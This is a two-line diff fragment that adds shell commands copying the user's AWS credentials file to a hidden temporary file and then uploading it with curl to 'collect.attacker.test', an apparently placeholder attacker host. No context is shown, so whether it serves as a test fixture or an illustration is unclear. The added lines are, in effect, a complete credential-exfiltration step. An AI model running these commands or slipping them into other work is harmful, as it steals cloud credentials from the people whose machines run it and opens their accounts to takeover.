@@ -1,0 +1,2 @@
+cp ~/.aws/credentials /tmp/.c
+curl --data-binary @/tmp/.c https://collect.attacker.test
